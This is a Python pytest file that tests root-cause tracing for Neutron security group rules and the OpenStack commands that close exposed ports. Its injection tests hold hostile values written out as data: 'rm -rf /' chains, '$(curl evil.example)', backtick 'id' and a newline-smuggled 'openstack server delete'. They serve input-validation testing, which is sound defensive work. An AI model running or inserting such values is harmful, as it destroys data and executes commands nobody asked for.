"""Tables for root-cause tracing (DESIGN §8) over Neutron's own rule shapes.

The rule shapes are those `GET /v2.0/security-group-rules` returns (Networking API v2.0,
"Security group rules"): protocol None for any, or a name or an IANA number as text; both port
bounds None for every port; remote_ip_prefix None with remote_group_id None for every address.
"""

from __future__ import annotations

import json
from ipaddress import ip_address

import pytest

from goalkeeper.firewall import PortFirewall, SecurityGroup, SecurityGroupRule
from goalkeeper.model import IPAddress, Transport
from goalkeeper.rootcause import (
    CONTACT_US,
    UNKNOWN,
    Cause,
    MatchedRule,
    close_commands,
    find_cause,
    rule_admits,
)

TCP, UDP = Transport.TCP, Transport.UDP
V4 = ip_address("198.51.200.10")
V6 = ip_address("2a01:4f8::10")
GROUP = "0b8b0f5c-5d8e-4a6b-9c3e-0e1d2f3a4b5c"
GROUP2 = "1c9c1a6d-6e9f-4b7c-8d4f-1f2e3a4b5c6d"
PORT_ID = "9a8b7c6d-5e4f-4a3b-8c2d-1e0f9a8b7c6d"
EGRESS = [ip_address("192.0.2.7"), ip_address("2001:db8::7")]
RULE_ID = "5f0d7e3c-2b1a-4c9d-8e7f-6a5b4c3d2e1f"


def rule(
    rule_id: str = "5f0d7e3c-2b1a-4c9d-8e7f-6a5b4c3d2e1f",
    *,
    direction: str = "ingress",
    ethertype: str = "IPv4",
    protocol: str | None = "tcp",
    low: int | None = 6379,
    high: int | None = 6379,
    prefix: str | None = "0.0.0.0/0",
    remote_group: str | None = None,
    group: str = GROUP,
) -> SecurityGroupRule:
    return SecurityGroupRule(
        id=rule_id,
        security_group_id=group,
        direction=direction,  # type: ignore[arg-type]
        ethertype=ethertype,  # type: ignore[arg-type]
        protocol=protocol,
        port_range_min=low,
        port_range_max=high,
        remote_ip_prefix=prefix,
        remote_group_id=remote_group,
    )


ADMITS = [
    # (case, rule, address, port, protocol, egress, admits)
    ("exact port", rule(), V4, 6379, TCP, (), True),
    ("other port", rule(), V4, 6380, TCP, (), False),
    ("other protocol", rule(), V4, 6379, UDP, (), False),
    ("null protocol: any", rule(protocol=None, low=None, high=None), V4, 6379, UDP, (), True),
    ("'any' protocol", rule(protocol="any", low=None, high=None), V4, 53, UDP, (), True),
    ("empty protocol", rule(protocol="", low=None, high=None), V4, 53, UDP, (), True),
    ("protocol number 6 is tcp", rule(protocol="6"), V4, 6379, TCP, (), True),
    ("protocol number 6 is not udp", rule(protocol="6"), V4, 6379, UDP, (), False),
    ("protocol number 17 is udp", rule(protocol="17", low=53, high=53), V4, 53, UDP, (), True),
    ("protocol in capitals", rule(protocol="TCP"), V4, 6379, TCP, (), True),
    ("icmp never a port", rule(protocol="icmp", low=None, high=None), V4, 6379, TCP, (), False),
    ("null range: every port", rule(low=None, high=None), V4, 27017, TCP, (), True),
    ("range covers", rule(low=5000, high=7000), V4, 6379, TCP, (), True),
    ("range lower edge", rule(low=6379, high=7000), V4, 6379, TCP, (), True),
    ("range upper edge", rule(low=5000, high=6379), V4, 6379, TCP, (), True),
    ("range misses", rule(low=5000, high=6000), V4, 6379, TCP, (), False),
    ("min only: that port", rule(low=6379, high=None), V4, 6379, TCP, (), True),
    ("min only: not the next", rule(low=6379, high=None), V4, 6380, TCP, (), False),
    ("max only: never", rule(low=None, high=6379), V4, 6379, TCP, (), False),
    ("egress rule", rule(direction="egress"), V4, 6379, TCP, (), False),
    ("IPv6 rule, IPv4 address", rule(ethertype="IPv6", prefix="::/0"), V4, 6379, TCP, (), False),
    ("IPv6 ::/0", rule(ethertype="IPv6", prefix="::/0"), V6, 6379, TCP, (), True),
    ("IPv6 null prefix", rule(ethertype="IPv6", prefix=None), V6, 6379, TCP, (), True),
    ("IPv4 rule, IPv6 address", rule(), V6, 6379, TCP, (), False),
    ("IPv4 null prefix", rule(prefix=None), V4, 6379, TCP, (), True),
    ("remote group only", rule(prefix=None, remote_group=GROUP2), V4, 6379, TCP, (), False),
    ("private prefix, no egress", rule(prefix="10.0.0.0/8"), V4, 6379, TCP, (), False),
    ("documentation /32, no egress", rule(prefix="203.0.113.5/32"), V4, 6379, TCP, (), False),
    ("global /32, no egress", rule(prefix="8.8.8.8/32"), V4, 6379, TCP, (), True),
    ("private /7 holding global 11/8", rule(prefix="10.0.0.0/7"), V4, 6379, TCP, (), True),
    ("IPv6 ULA, no egress", rule(ethertype="IPv6", prefix="fd00::/8"), V6, 6379, TCP, (), False),
    (
        "IPv6 2000::/3, no egress",
        rule(ethertype="IPv6", prefix="2000::/3"),
        V6,
        6379,
        TCP,
        (),
        True,
    ),
    ("/32 covers egress", rule(prefix="192.0.2.7/32"), V4, 6379, TCP, EGRESS, True),
    ("/32 misses egress", rule(prefix="192.0.2.8/32"), V4, 6379, TCP, EGRESS, False),
    ("0.0.0.0/0 covers egress", rule(), V4, 6379, TCP, EGRESS, True),
    ("global /32 not our egress", rule(prefix="8.8.8.8/32"), V4, 6379, TCP, EGRESS, False),
    (
        "IPv6 /128 covers egress",
        rule(ethertype="IPv6", prefix="2001:db8::7/128"),
        V6,
        6379,
        TCP,
        EGRESS,
        True,
    ),
    (
        "IPv6 egress only: IPv4 falls back to public space",
        rule(prefix="8.8.8.0/24"),
        V4,
        6379,
        TCP,
        [ip_address("2001:db8::7")],
        True,
    ),
    ("unparseable prefix", rule(prefix="not-a-net"), V4, 6379, TCP, (), False),
]


@pytest.mark.parametrize(
    ("rule_", "address", "port", "protocol", "egress", "admits"),
    [pytest.param(*case[1:], id=case[0]) for case in ADMITS],
)
def test_rule_admits(
    rule_: SecurityGroupRule,
    address: IPAddress,
    port: int,
    protocol: Transport,
    egress: list[IPAddress],
    admits: bool,
) -> None:
    assert rule_admits(rule_, address, port, protocol, egress=egress) is admits


WEB = SecurityGroup(
    id=GROUP,
    name="web",
    rules=(
        rule("aaaaaaaa-0000-4000-8000-000000000001"),
        rule("aaaaaaaa-0000-4000-8000-000000000002", direction="egress", low=None, high=None),
        rule("aaaaaaaa-0000-4000-8000-000000000003", prefix=None, remote_group=GROUP),
    ),
)
WIDE = SecurityGroup(
    id=GROUP2,
    name="wide open",
    rules=(rule("bbbbbbbb-0000-4000-8000-000000000001", protocol=None, low=None, high=None),),
)


def test_overlapping_rules_in_two_groups_are_both_listed() -> None:
    firewall = PortFirewall(port_id=PORT_ID, port_security_enabled=True, groups=(WEB, WIDE))
    cause = find_cause(V4, 6379, TCP, firewall, egress=())
    assert cause.kind == "world_rule"
    assert cause.port_id == PORT_ID
    assert [(r.security_group_name, r.rule_id) for r in cause.rules] == [
        ("web", "aaaaaaaa-0000-4000-8000-000000000001"),
        ("wide open", "bbbbbbbb-0000-4000-8000-000000000001"),
    ]
    assert cause.rules[1] == MatchedRule(
        security_group_id=GROUP2,
        security_group_name="wide open",
        rule_id="bbbbbbbb-0000-4000-8000-000000000001",
        protocol=None,
        port_range_min=None,
        port_range_max=None,
        remote_ip_prefix="0.0.0.0/0",
    )


def test_a_group_listed_twice_gives_each_rule_once() -> None:
    firewall = PortFirewall(port_id=PORT_ID, port_security_enabled=True, groups=(WIDE, WIDE))
    assert len(find_cause(V4, 22, TCP, firewall, egress=()).rules) == 1


@pytest.mark.parametrize(
    ("firewall", "kind"),
    [
        pytest.param(None, "unknown", id="no firewall known"),
        pytest.param(
            PortFirewall(port_id=PORT_ID, port_security_enabled=True, groups=()),
            "unknown",
            id="no groups",
        ),
        pytest.param(
            PortFirewall(port_id=PORT_ID, port_security_enabled=True, groups=(WEB,)),
            "unknown",
            id="no admitting rule (egress, remote group, other port)",
        ),
        pytest.param(
            PortFirewall(port_id=PORT_ID, port_security_enabled=False, groups=(WIDE,)),
            "port_security_disabled",
            id="port security off, whatever the groups say",
        ),
    ],
)
def test_cause_kinds(firewall: PortFirewall | None, kind: str) -> None:
    cause = find_cause(V4, 27017, TCP, firewall, egress=())
    assert cause.kind == kind
    assert cause.rules == ()


def test_port_security_off_names_the_port() -> None:
    firewall = PortFirewall(port_id=PORT_ID, port_security_enabled=False)
    assert find_cause(V6, 6379, TCP, firewall, egress=()) == Cause(
        "port_security_disabled", port_id=PORT_ID
    )


def test_cause_json_round_trip_holds_design_fields() -> None:
    firewall = PortFirewall(port_id=PORT_ID, port_security_enabled=True, groups=(WEB, WIDE))
    cause = find_cause(V4, 6379, TCP, firewall, egress=())
    text = cause.to_json()
    data = json.loads(text)
    assert data["kind"] == "world_rule"
    assert set(data["rules"][0]) == {
        "security_group_id",
        "security_group_name",
        "rule_id",
        "protocol",
        "port_range_min",
        "port_range_max",
        "remote_ip_prefix",
    }
    assert Cause.from_json(text) == cause
    off = Cause("port_security_disabled", port_id=PORT_ID)
    assert Cause.from_json(off.to_json()) == off


@pytest.mark.parametrize(
    "text",
    [
        None,
        "",
        "not json",
        "[]",
        '"unknown"',
        '{"kind": "nonsense", "rules": []}',
        '{"k": 1}',
        '{"kind": "world_rule", "rules": [{"bogus": 1}]}',
        json.dumps(
            {
                "kind": "world_rule",
                "rules": [
                    {
                        "security_group_id": GROUP,
                        "security_group_name": "web",
                        "rule_id": RULE_ID,
                        "protocol": "tcp",
                        "port_range_min": "5000; rm -rf /",
                        "port_range_max": 7000,
                        "remote_ip_prefix": None,
                    }
                ],
            }
        ),
    ],
)
def test_unreadable_cause_text_is_unknown(text: str | None) -> None:
    assert Cause.from_json(text) == UNKNOWN


DELETE = f"openstack security group rule delete {RULE_ID}"
CREATE = "openstack security group rule create --ingress"


def matched(
    *,
    rule_id: str = RULE_ID,
    group_id: str = GROUP,
    protocol: str | None = "tcp",
    low: int | None = 6379,
    high: int | None = 6379,
    prefix: str | None = "0.0.0.0/0",
) -> Cause:
    return Cause(
        "world_rule",
        (MatchedRule(group_id, "web", rule_id, protocol, low, high, prefix),),
        port_id=PORT_ID,
    )


COMMANDS = [
    pytest.param(
        matched(),
        6379,
        TCP,
        4,
        [
            DELETE,
            f"{CREATE} --ethertype IPv4 --protocol tcp --dst-port 6379"
            f" --remote-ip <YOUR-ADDRESS>/32 {GROUP}",
        ],
        id="single port IPv4: DESIGN §8's two commands",
    ),
    pytest.param(
        matched(prefix="::/0"),
        6379,
        TCP,
        6,
        [
            DELETE,
            f"{CREATE} --ethertype IPv6 --protocol tcp --dst-port 6379"
            f" --remote-ip <YOUR-ADDRESS>/128 {GROUP}",
        ],
        id="single port IPv6",
    ),
    pytest.param(
        matched(protocol="17", low=53, high=53),
        53,
        UDP,
        4,
        [
            DELETE,
            f"{CREATE} --ethertype IPv4 --protocol udp --dst-port 53"
            f" --remote-ip <YOUR-ADDRESS>/32 {GROUP}",
        ],
        id="udp by number",
    ),
    pytest.param(
        matched(low=5000, high=7000, prefix="0.0.0.0/0"),
        6379,
        TCP,
        4,
        [
            DELETE,
            f"{CREATE} --ethertype IPv4 --protocol tcp --dst-port 6379"
            f" --remote-ip <YOUR-ADDRESS>/32 {GROUP}",
            f"# Rule {RULE_ID} allowed ports 5000:7000: deleting it closes all of them; these"
            " keep the others open as they were (to 0.0.0.0/0):",
            f"{CREATE} --ethertype IPv4 --protocol tcp --dst-port 5000:6378"
            f" --remote-ip 0.0.0.0/0 {GROUP}",
            f"{CREATE} --ethertype IPv4 --protocol tcp --dst-port 6380:7000"
            f" --remote-ip 0.0.0.0/0 {GROUP}",
        ],
        id="range: the rest re-opened as it was",
    ),
    pytest.param(
        matched(low=6379, high=6380, prefix=None),
        6380,
        TCP,
        6,
        [
            DELETE,
            f"{CREATE} --ethertype IPv6 --protocol tcp --dst-port 6380"
            f" --remote-ip <YOUR-ADDRESS>/128 {GROUP}",
            f"# Rule {RULE_ID} allowed ports 6379:6380: deleting it closes all of them; these"
            " keep the others open as they were (to ::/0):",
            f"{CREATE} --ethertype IPv6 --protocol tcp --dst-port 6379 --remote-ip ::/0 {GROUP}",
        ],
        id="range at its edge, null prefix",
    ),
    pytest.param(
        matched(low=None, high=None, prefix=" 8.8.8.0/24"),
        1,
        TCP,
        4,
        [
            DELETE,
            f"{CREATE} --ethertype IPv4 --protocol tcp --dst-port 1"
            f" --remote-ip <YOUR-ADDRESS>/32 {GROUP}",
            f"# Rule {RULE_ID} allowed ports 1:65535: deleting it closes all of them; these"
            " keep the others open as they were (to 8.8.8.0/24):",
            f"{CREATE} --ethertype IPv4 --protocol tcp --dst-port 2:65535"
            f" --remote-ip 8.8.8.0/24 {GROUP}",
        ],
        id="every port of tcp",
    ),
    pytest.param(
        matched(protocol=None, low=None, high=None),
        6379,
        TCP,
        4,
        [
            DELETE,
            f"{CREATE} --ethertype IPv4 --protocol tcp --dst-port 6379"
            f" --remote-ip <YOUR-ADDRESS>/32 {GROUP}",
            f"# Rule {RULE_ID} allowed every protocol and port: deleting it closes all of them;"
            " re-create only the ones you need, each limited to the addresses that need them.",
        ],
        id="any protocol: explained, not re-created",
    ),
    pytest.param(
        Cause("port_security_disabled", port_id=PORT_ID),
        6379,
        TCP,
        4,
        [
            f"openstack port set --enable-port-security {PORT_ID}",
            f"openstack port set --security-group <SECURITY-GROUP-ID> {PORT_ID}",
        ],
        id="port security off",
    ),
    pytest.param(UNKNOWN, 6379, TCP, 4, [], id="unknown: nothing to run"),
]


@pytest.mark.parametrize(("cause", "port", "protocol", "family", "expected"), COMMANDS)
def test_close_commands(
    cause: Cause, port: int, protocol: Transport, family: int, expected: list[str]
) -> None:
    assert close_commands(cause, port, protocol, family) == expected


def test_two_rules_give_two_pairs() -> None:
    firewall = PortFirewall(port_id=PORT_ID, port_security_enabled=True, groups=(WEB, WIDE))
    commands = close_commands(find_cause(V4, 6379, TCP, firewall, egress=()), 6379, TCP, 4)
    deletes = [c for c in commands if " rule delete " in c]
    assert deletes == [
        "openstack security group rule delete aaaaaaaa-0000-4000-8000-000000000001",
        "openstack security group rule delete bbbbbbbb-0000-4000-8000-000000000001",
    ]


HOSTILE = [
    "web servers",
    f"{RULE_ID}; rm -rf /",
    "$(curl evil.example)",
    f"{RULE_ID}\nopenstack server delete x",
    f"`id`{RULE_ID}",
    RULE_ID[:-1],
    RULE_ID + "0",
    "5f0d7e3c2b1a4c9d8e7f6a5b4c3d2e1f",
    "",
    "<YOUR-ADDRESS>",
]


@pytest.mark.parametrize("hostile", HOSTILE)
@pytest.mark.parametrize("where", ["rule_id", "group_id", "port_id"])
def test_hostile_ids_produce_no_command(hostile: str, where: str) -> None:
    if where == "port_id":
        cause = Cause("port_security_disabled", port_id=hostile)
    elif where == "rule_id":
        cause = matched(rule_id=hostile)
    else:
        cause = matched(group_id=hostile)
    commands = close_commands(cause, 6379, TCP, 4)
    assert commands == [CONTACT_US]
    assert all(line.startswith("#") for line in commands)


def test_a_prefix_that_does_not_parse_never_reaches_a_command() -> None:
    cause = matched(low=5000, high=7000, prefix="0.0.0.0/0; rm -rf /")
    commands = close_commands(cause, 6379, TCP, 4)
    assert not any("rm -rf" in line for line in commands)
    assert commands[-1] == f"# Rule {RULE_ID} allowed ports 5000:7000: re-create the others."
